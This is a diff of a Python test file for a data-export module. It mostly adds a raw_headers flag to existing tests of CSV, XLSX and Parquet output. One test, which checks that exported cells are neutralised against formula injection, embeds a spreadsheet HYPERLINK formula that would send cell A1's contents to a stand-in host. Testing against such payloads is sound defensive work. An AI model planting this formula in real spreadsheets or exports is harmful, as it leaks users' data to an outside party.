@@ -56,7 +56,7 @@ def test_csv_is_utf8_with_bom_and_parquet_reads_back(db_path, tmp_path):
     from reef.export import export_tables
 
     store = _store(db_path)
-    export_tables(store, tmp_path / "csv")
+    export_tables(store, tmp_path / "csv", raw_headers=True)
     raw = (tmp_path / "csv" / "members.csv").read_bytes()
     assert raw.startswith(b"\xef\xbb\xbf")
     rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
@@ -79,7 +79,7 @@ def test_code_columns_read_as_names_in_the_workbook_with_a_chinese_twin_in_csv_b
     export_tables(store, tmp_path / "en.xlsx", lang="en")
     book = openpyxl.load_workbook(tmp_path / "en.xlsx", read_only=True)
     assert {r["Role"] for r in _rows(book, "Key connectors")} <= {"connector", "broadcaster", "member"}
-    export_tables(store, tmp_path / "csv")
+    export_tables(store, tmp_path / "csv", raw_headers=True)
     rows = list(csv.DictReader(io.StringIO((tmp_path / "csv" / "operator_actions.csv").read_text(encoding="utf-8-sig"))))
     assert rows and all(r["status_zh"] in {"待办", "已完成", "已取消"} for r in rows)
     export_tables(store, tmp_path / "pq", fmt="parquet")
@@ -225,7 +225,7 @@ def test_csv_cells_that_look_like_formulas_stay_text(db_path, tmp_path):
     store = _store(db_path)
     formula = '=HYPERLINK("http://x.example/?"&A1,"点我")'
     store.execute("UPDATE members SET name = ? WHERE member_id = 'evil'", [formula])
-    export_tables(store, tmp_path / "csv", unmask=True)
+    export_tables(store, tmp_path / "csv", unmask=True, raw_headers=True)
     rows = list(csv.DictReader(io.StringIO((tmp_path / "csv" / "members.csv").read_text(encoding="utf-8-sig"))))
     assert next(r for r in rows if r["member_id"] == "evil")["name"] == "'" + formula
 
